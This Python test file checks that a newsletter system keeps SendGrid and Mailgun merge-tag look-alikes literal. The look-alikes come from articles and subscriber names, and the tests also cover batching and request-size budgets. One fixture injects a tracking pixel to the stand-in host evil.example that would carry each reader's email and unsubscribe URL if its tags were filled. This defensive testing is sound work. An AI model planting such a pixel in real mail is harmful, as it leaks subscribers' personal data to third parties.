"""SendGrid and Mailgun fill merge tags in one shared body: only our field positions may be
filled, and text from an article that looks like a merge tag stays as the article wrote it.

Issue 9, §4: an article holding "-nl-email-" or "%recipient.h:List-Unsubscribe%" must never
become a tracking pixel with every reader's address, or hand out unsubscribe links.
"""

from __future__ import annotations

import dataclasses
import json
import re
from collections import Counter
from email import policy
from email.parser import BytesParser
from pathlib import Path

import httpx
import pytest
from hypothesis import given
from hypothesis import strategies as st

from newsletter.compose.build import build_issue
from newsletter.compose.message import Message, build_message
from newsletter.compose.personalize import Recipient, slot_key
from newsletter.compose.render import Rendered
from newsletter.config import ProviderSettings, Settings
from newsletter.delivery.plan import batch_size
from newsletter.delivery.providers import (
    Options,
    Status,
    mailgun,
    make_client,
    make_provider,
    sendgrid,
)
from newsletter.delivery.providers.mailgun import MailgunProvider, html_literal, text_literal
from newsletter.delivery.providers.sendgrid import SendGridProvider
from newsletter.delivery.test_copies import RetryPolicy, deliver

from fake_provider import KEYS, MAILGUN_DOMAIN, FakeProvider
from fake_provider.recorder import Recorder, client

# Each provider's merge syntax, as our old tags and the providers' own variables spell it.
TAGS = (
    "-nl-email-",
    "-nl-unsubscribe_url_html-",
    "-nl-name-",
    "%recipient.email%",
    "%recipient.h:List-Unsubscribe%",
    "%recipient.unsubscribe_url%",
    "%recipient%",
    "%unsubscribe_url%",
)
LITERAL = " ".join(TAGS)
WORD_JOINER = "\u2060"  # what Mailgun's text gets after the "%" of a look-alike
READERS = (
    Recipient("ana@example.org", "Ana Reader", "https://millbrook.example.org/unsub?t=ana-7f3a"),
    # a subscriber's own data may look like a tag too
    Recipient(
        "bo@example.net", "Bo %recipient% Reader", "https://millbrook.example.org/unsub?t=bo"
    ),
)
FAST = RetryPolicy(attempts=2, base_delay=0.01, max_delay=0.05)


@pytest.fixture
def hostile(settings: Settings, issue_dir: Path) -> Rendered:
    """The example issue with the look-alikes in its subject, preheader and every article."""
    toml = issue_dir / "issue.toml"
    toml.write_text(
        toml.read_text(encoding="utf-8")
        .replace('subject = "', f'subject = "{LITERAL} ', 1)
        .replace('preheader = "', f'preheader = "{LITERAL} ', 1),
        encoding="utf-8",
    )
    md = issue_dir / "library-reopens.md"
    md.write_text(md.read_text(encoding="utf-8") + f"\n\nSay {LITERAL} to us.\n", "utf-8")
    txt = issue_dir / "a-word-from-the-council.txt"
    txt.write_text(
        txt.read_text(encoding="utf-8").replace(
            "Applications open", f"Write {LITERAL} on the form. Applications open"
        ),
        encoding="utf-8",
    )
    page = issue_dir / "flood-defences.html"
    pixel = '<img src="https://evil.example/p.gif?e=-nl-email-&amp;u=-nl-unsubscribe_url-" alt="">'
    page.write_text(
        page.read_text(encoding="utf-8").replace(
            "<h2>What will be built</h2>",
            f"<p>{LITERAL}</p>{pixel}<h2>What will be built</h2>",
        ),
        encoding="utf-8",
    )
    rendered = build_issue(settings, issue_dir).rendered
    assert rendered.nonce  # a real build, tokens with their nonce
    return rendered


def _messages(settings: Settings, rendered: Rendered, *, shared: bool = True) -> list[Message]:
    """One message per reader; shared=False gives each its own copy of the issue, so the
    adapters send them one by one (a batch shares one body only if it is one Rendered)."""
    return [
        build_message(
            settings,
            "2026-11-26-welcome",
            rendered if shared or n == 0 else dataclasses.replace(rendered),
            reader,
        )
        for n, reader in enumerate(READERS)
    ]


def _configured(settings: Settings, name: str, url: str) -> Settings:
    provider = ProviderSettings(name=name, base_url=url, domain=MAILGUN_DOMAIN, timeout=5.0)
    return dataclasses.replace(settings, provider=provider)


def _form(request: httpx.Request) -> list[tuple[str, str]]:
    request.read()
    parsed = BytesParser(policy=policy.HTTP).parsebytes(
        f"Content-Type: {request.headers['content-type']}\r\n\r\n".encode() + request.content
    )
    return [  # httpx sends str fields as UTF-8, with no charset: read them as the fake does
        (
            str(p.get_param("name", header="content-disposition")),
            (p.get_payload(decode=True) or b"").decode("utf-8"),
        )
        for p in parsed.iter_parts()
    ]


def _as_read(provider: str, html: str, text: str, subject: str) -> tuple[str, str, str]:
    """What the reader sees: Mailgun's look-alikes travel with their "%" as "&#37;" in the
    HTML (the same character once parsed) and with an invisible word joiner after it in
    the text and subject; SendGrid's arrive byte for byte."""
    if provider == "mailgun":
        return (
            html.replace("&#37;", "%"),
            text.replace(WORD_JOINER, ""),
            subject.replace(WORD_JOINER, ""),
        )
    return html, text, subject


# --- through the loopback fake, as the provider fills the tags ------------------------------


@pytest.mark.parametrize("shared", [True, False], ids=["one-request", "one-by-one"])
@pytest.mark.parametrize("name", ["sendgrid", "mailgun"])
def test_lookalike_tags_stay_literal_for_every_reader(
    settings: Settings, hostile: Rendered, fake: FakeProvider, name: str, shared: bool
) -> None:
    batch = _messages(settings, hostile, shared=shared)
    with make_client(5.0) as http:
        environ = {f"{name.upper()}_API_KEY": KEYS[name]}
        provider = make_provider(
            _configured(settings, name, fake.url), client=http, environ=environ
        )
        results = deliver(provider, batch, FAST, sleep=lambda s: None)
    assert [r.status for r in results] == [Status.SENT, Status.SENT]
    assert len(fake.seen) == (1 if shared else 2)
    by_address = {m.recipient.email: m for m in batch}
    assert sorted(got.to for got in fake.accepted) == sorted(by_address)
    for got in fake.accepted:
        mine = by_address[got.to]
        other = next(r for r in READERS if r.email != got.to)
        html, text, subject = _as_read(name, got.html, got.text, got.subject)
        # Exactly the issue as we personalize it ourselves: the fields filled where the
        # templates put them, and nothing else.
        assert html == mine.html
        assert text == mine.text
        assert subject == mine.subject
        for place in (html, text, subject):
            assert LITERAL in " ".join(place.split())  # the text part is wrapped
        assert hostile.html.count("-nl-email-") == html.count("-nl-email-") > 0
        assert 'src="https://evil.example/p.gif?e=-nl-email-&amp;u=-nl-unsubscribe_url-"' in html
        # the real fields, and never the other reader's
        assert f"<strong>{got.to}</strong>" in html
        assert mine.recipient.unsubscribe_url in text
        assert html.count(got.to) == mine.html.count(got.to)
        assert html.count(mine.recipient.unsubscribe_url) == mine.html.count(
            mine.recipient.unsubscribe_url
        )
        for field in (other.email, other.unsubscribe_url, other.name):
            assert field not in got.html + got.text + got.subject + json.dumps(got.headers)
        headers = {k.lower(): v for k, v in got.headers.items()}
        assert headers["list-unsubscribe"] == mine.headers["List-Unsubscribe"]
        assert headers["message-id"] == mine.message_id
        if name == "mailgun":  # nothing left for Mailgun to fill
            assert "%recipient" not in got.html + got.text + got.subject
            assert "%unsubscribe_url%" not in got.html + got.text + got.subject


@pytest.mark.parametrize("lists", [1, 2], ids=["one-list", "two-lists"])
@pytest.mark.parametrize("name", ["sendgrid", "mailgun"])
def test_each_field_reaches_the_places_the_issue_puts_it(
    settings: Settings, fake: FakeProvider, name: str, lists: int
) -> None:
    """A request carries only the fields the shared body holds: one used only in the
    subject, only in the text or only in the HTML still reaches each reader. A batch whose
    messages differ in what a request carries once (here the List-ID) is not one body:
    each reader still gets their own headers."""
    rendered = Rendered(
        subject="For x-newsletter:name",
        html="<p>x-newsletter:name at x-newsletter:email</p>",
        text="Leave: x-newsletter:unsubscribe_url",
    )
    readers = [
        Recipient("ann@example.org", "Ann\nLee;", "https://millbrook.example.org/u?t=ann"),
        Recipient("mo@example.org", "%recipient.email% Mo", "https://millbrook.example.org/u?t=mo"),
        Recipient("zo@example.org", "%unsubscribe_url% Zoë", "https://millbrook.example.org/u?t=z"),
    ]
    other_list = dataclasses.replace(settings, list_id="other.millbrook.example.org")
    batch = [
        build_message(other_list if n == 1 and lists == 2 else settings, "k", rendered, reader)
        for n, reader in enumerate(readers)
    ]
    with make_client(5.0) as http:
        environ = {f"{name.upper()}_API_KEY": KEYS[name]}
        provider = make_provider(
            _configured(settings, name, fake.url), client=http, environ=environ
        )
        results = provider.send(batch)
    assert [r.status for r in results] == [Status.SENT] * 3
    assert len(fake.seen) == (1 if lists == 1 else 3)
    by_address = {m.recipient.email: m for m in batch}
    assert sorted(got.to for got in fake.accepted) == sorted(by_address)
    for got in fake.accepted:
        mine = by_address[got.to]
        html, text, subject = _as_read(name, got.html, got.text, got.subject)
        assert (subject, html, text) == (mine.subject, mine.html, mine.text)
        assert mine.recipient.unsubscribe_url in text and got.to in html
        shown = {k.lower(): v for k, v in got.headers.items()}
        for header, value in mine.headers.items():
            assert shown[header.lower()].replace(WORD_JOINER, "") == value
    if name == "mailgun":  # a value that looks like Mailgun's own variable stays text
        values = []
        for seen in fake.seen:
            form = BytesParser(policy=policy.HTTP).parsebytes(
                f"Content-Type: {seen.headers['content-type']}\r\n\r\n".encode() + seen.body
            )
            for part in form.iter_parts():
                if part.get_param("name", header="content-disposition") == "recipient-variables":
                    for own in json.loads(part.get_payload(decode=True) or b"{}").values():
                        values += own.values()
        assert "%recipient.email% Mo" in {v.replace(WORD_JOINER, "") for v in values}
        assert not any(_MAILGUN_SYNTAX.search(v) for v in values)


def test_sendgrid_gives_each_name_on_one_line_without_commas(settings: Settings) -> None:
    recorder = Recorder(httpx.Response(202, headers={"X-Message-Id": "sg-1"}))
    rendered = Rendered(subject="Hi", html="<p>x-newsletter:name</p>", text="x-newsletter:name")
    names = ["Ann\nLee;", "Smith, Bo", "\tZoë\x00 O'Brien\u2028Jr.", ""]
    batch = [
        build_message(settings, "k", rendered, Recipient(f"r{n}@example.org", given, "https://x/u"))
        for n, given in enumerate(names)
    ]
    SendGridProvider(Options(client(recorder), "SG.key")).send(batch)
    body = json.loads(recorder.requests[0].content)
    assert [p["to"] for p in body["personalizations"]] == [
        [{"email": "r0@example.org", "name": "Ann Lee"}],
        [{"email": "r1@example.org", "name": "Smith  Bo"}],
        [{"email": "r2@example.org", "name": "Zoë O'Brien Jr."}],
        [{"email": "r3@example.org"}],
    ]


@pytest.mark.parametrize("name", ["sendgrid", "mailgun"])
def test_a_batch_whose_fields_outgrow_the_request_budget_goes_in_halves(
    settings: Settings, name: str
) -> None:
    """plan.batch_size allows 2 KB a recipient; readers with far more in the fields the
    issue uses must not make a request larger than the provider's budget."""
    module = sendgrid if name == "sendgrid" else mailgun
    words = " ".join(f"word{n}" for n in range(9_000))  # ~80 KB
    fields = " ".join(f"x-newsletter:{slot_key(f)}" for f in ("bio", "note"))
    rendered = Rendered(subject="Hello", html=f"<p>{words} {fields}</p>", text=f"{words} {fields}")
    fat = {"bio": "é" * 1000, "note": "<ü>" * 300}  # escaped in the HTML, 10 KB a reader
    count = batch_size(_configured(settings, name, "https://x.example"), name, rendered)
    batch = [
        build_message(
            settings, "k", rendered, Recipient(f"r{n}@example.org", "R", "https://x/u", fat)
        )
        for n in range(count)
    ]
    answer = (
        httpx.Response(202, headers={"X-Message-Id": "sg-1"})
        if name == "sendgrid"
        else httpx.Response(200, json={"id": "<mg-1@mg>", "message": "Queued."})
    )
    recorder = Recorder(answer)
    options = Options(client(recorder), "key")
    provider = (
        SendGridProvider(options) if name == "sendgrid" else MailgunProvider(options, domain="mg")
    )
    results = provider.send(batch)
    assert [r.status for r in results] == [Status.SENT] * count
    sizes = [len(r.read()) for r in recorder.requests]
    assert len(sizes) > 1 and max(sizes) <= module.REQUEST_BUDGET
    if name == "sendgrid":
        people = [
            p["to"][0]["email"]
            for r in recorder.requests
            for p in json.loads(r.content)["personalizations"]
        ]
    else:
        people = [v for r in recorder.requests for k, v in _form(r) if k == "to"]
    assert people == [m.to if name == "mailgun" else m.recipient.email for m in batch]


@pytest.mark.parametrize("name", ["sendgrid", "mailgun"])
def test_a_split_batch_with_a_refused_address_reaches_everyone_else_once(
    settings: Settings, fake: FakeProvider, name: str
) -> None:
    """Counted at the provider: a batch split for the budget, with an address the provider
    refuses in its second half, gives each other reader exactly one email, their own."""
    words = " ".join(f"word{n}" for n in range(9_000))
    field = f"x-newsletter:{slot_key('bio')}"
    rendered = Rendered(subject="Hello", html=f"<p>{words} {field}</p>", text=f"{words} {field}")
    fat = {"bio": "é" * 2_000}  # ~16 KB a reader in the request: 600 are past 8 MB
    count = 600
    addresses = [f"r{n}@example.org" for n in range(count)]
    addresses[450] = "invalid@example.org"
    batch = [
        build_message(settings, "k", rendered, Recipient(a, f"R{n}", f"https://x/u?t={n}", fat))
        for n, a in enumerate(addresses)
    ]
    with make_client(30.0) as http:
        environ = {f"{name.upper()}_API_KEY": KEYS[name]}
        provider = make_provider(
            _configured(settings, name, fake.url), client=http, environ=environ
        )
        # SendGrid names the refused personalization; the others of its request are
        # sent again (as a send would), Mailgun's one by one.
        results = deliver(provider, batch, FAST, sleep=lambda s: None)
    assert [r.status for r in results].count(Status.SENT) == count - 1
    assert results[450].status is Status.REJECTED
    assert all(len(seen.body) <= 8_000_000 for seen in fake.seen)
    got = Counter(g.to for g in fake.accepted)
    assert got == Counter(a for a in addresses if "invalid" not in a)
    for accepted in fake.accepted[:: count // 8]:  # a sample, whole: each their own link
        mine = next(m for m in batch if m.recipient.email == accepted.to)
        assert _as_read(name, accepted.html, accepted.text, accepted.subject)[0] == mine.html


# --- the request bodies, with MockTransport ------------------------------------------------


def test_sendgrid_substitution_keys_are_fresh_and_only_where_fields_go(
    settings: Settings, hostile: Rendered
) -> None:
    recorder = Recorder(httpx.Response(202, headers={"X-Message-Id": "sg-1"}))
    provider = SendGridProvider(Options(client(recorder), "SG.key"))
    batch = _messages(settings, hostile)
    provider.send(batch)
    provider.send(batch)
    bodies = [json.loads(r.content) for r in recorder.requests]
    keys = [set(b["personalizations"][0]["substitutions"]) for b in bodies]
    assert keys[0].isdisjoint(keys[1])  # a new secret for every request
    for body in bodies:
        text, html = (c["value"] for c in body["content"])
        for place in (text, html, body["subject"]):
            assert LITERAL in " ".join(place.split())
        for person, message in zip(body["personalizations"], batch, strict=True):
            subs = person["substitutions"]
            assert set(subs) == set(body["personalizations"][0]["substitutions"])
            for key in subs:
                assert key not in LITERAL and not key.startswith("-nl-email")
                assert re.fullmatch(r"-nl-[0-9a-f]{16}-\w+-", key), key
            # each key stands exactly where a field token stood, and only fields the
            # issue uses have one
            fields = {k.rsplit("-", 2)[-2] for k in subs}
            used = {
                f"{f}{suffix}"
                for f in ("name", "email", "unsubscribe_url")
                for suffix, source in (
                    ("", hostile.text + hostile.subject),
                    ("_html", hostile.html),
                )
                if f"x-newsletter-{hostile.nonce}:{f}" in source
            }
            assert fields == used and "unsubscribe_url_html" in used
            for key in subs:
                field = key.rsplit("-", 2)[-2]
                plain = field.removesuffix("_html")
                token = f"x-newsletter-{hostile.nonce}:{plain}"
                source = hostile.html if field.endswith("_html") else hostile.text
                assert (html if field.endswith("_html") else text).count(key) == source.count(token)
            merged_html, merged_text = html, text
            for key, value in subs.items():
                merged_html = merged_html.replace(key, value)
                merged_text = merged_text.replace(key, value)
            assert merged_html == message.html and merged_text == message.text
            assert person["headers"]["List-Unsubscribe"] == message.headers["List-Unsubscribe"]


_MAILGUN_SYNTAX = re.compile(r"%(recipient[^%]*|[a-z_]*unsubscribe_url)%", re.IGNORECASE)


def test_mailgun_fields_only_hold_our_own_variables(settings: Settings, hostile: Rendered) -> None:
    recorder = Recorder(httpx.Response(200, json={"id": "<mg-1@mg>", "message": "Queued."}))
    provider = MailgunProvider(Options(client(recorder), "mg-key"), domain="mg.example.org")
    batch = _messages(settings, hostile)
    provider.send(batch)
    provider.send(batch)
    names = []
    for request in recorder.requests:
        values = dict(_form(request))
        variables = json.loads(values["recipient-variables"])
        assert list(variables) == [r.email for r in READERS]
        ours = set(variables[READERS[0].email])
        assert all(set(v) == ours for v in variables.values())
        names.append(ours)
        # Every Mailgun variable anywhere in the request is one of ours, by a name no
        # article can guess; the look-alikes reach Mailgun broken up.
        for field, value in _form(request):
            if field in ("recipient-variables", "to", "from"):
                continue
            for found in _MAILGUN_SYNTAX.finditer(value):
                assert found.group(1).startswith("recipient."), (field, found.group())
                assert found.group(1).removeprefix("recipient.") in ours, (field, found.group())
        for name in ours:
            assert name not in LITERAL and re.search(r"[0-9a-f]{16}", name), name
        assert "&#37;recipient.email%" in values["html"]
        assert f"%{WORD_JOINER}recipient.email%" in values["text"]
        assert f"%{WORD_JOINER}recipient.email%" in values["subject"]
        # per-recipient headers still travel as recipient-variables
        for header in ("Message-ID", "List-Unsubscribe"):
            tag = values[f"h:{header}"]
            name = re.fullmatch(r"%recipient\.([^%]+)%", tag)
            assert name, tag
            for message in batch:
                own = variables[message.recipient.email][name.group(1)]
                assert own == message.headers[header]
        for message in batch:
            own = variables[message.recipient.email]
            html = re.sub(r"%recipient\.([^%]+)%", lambda m, own=own: own[m.group(1)],
                          values["html"])  # fmt: skip
            assert html.replace("&#37;", "%") == message.html
    assert names[0].isdisjoint(names[1])  # a new secret for every request


# --- Mailgun's look-alikes, one by one -----------------------------------------------------


@pytest.mark.parametrize(
    ("source", "html", "text"),
    [
        ("%recipient.email%", "&#37;recipient.email%", f"%{WORD_JOINER}recipient.email%"),
        ("%RECIPIENT.Email%", "&#37;RECIPIENT.Email%", f"%{WORD_JOINER}RECIPIENT.Email%"),
        ("%recipient%", "&#37;recipient%", f"%{WORD_JOINER}recipient%"),
        ("%recipient.a b%", "&#37;recipient.a b%", f"%{WORD_JOINER}recipient.a b%"),
        (
            "%tag_unsubscribe_url%",
            "&#37;tag_unsubscribe_url%",
            f"%{WORD_JOINER}tag_unsubscribe_url%",
        ),
        (
            "%recipient.email%recipient.name%",
            "&#37;recipient.email&#37;recipient.name%",
            f"%{WORD_JOINER}recipient.email%{WORD_JOINER}recipient.name%",
        ),
        # what is not Mailgun's stays byte for byte: %-escapes in URLs, percentages
        ("https://x.example/caf%C3%A9?q=%25recipient", None, None),
        ("100% sure, 50%-off, width:100%;", None, None),
    ],
)
def test_mailgun_breaks_each_lookalike_and_nothing_else(
    source: str, html: str | None, text: str | None
) -> None:
    assert html_literal(source) == (html or source)
    assert text_literal(source) == (text or source)


_PIECES = ["%", "recipient", "RECIPIENT", ".", "email", "%recipient%", "unsubscribe_url", "tag_",
           "h:List-Unsubscribe", "C3", "a", " ", "-", "_", "<", "&"]  # fmt: skip


@given(st.lists(st.sampled_from(_PIECES), max_size=12).map("".join))
def test_mailgun_literals_hold_no_variable_and_read_the_same(source: str) -> None:
    for made, undone in (
        (html_literal(source), html_literal(source).replace("&#37;", "%")),
        (text_literal(source), text_literal(source).replace(WORD_JOINER, "")),
    ):
        assert undone == source
        assert not re.search(r"%(recipient|[a-z_]*unsubscribe_url%)", made, re.IGNORECASE)
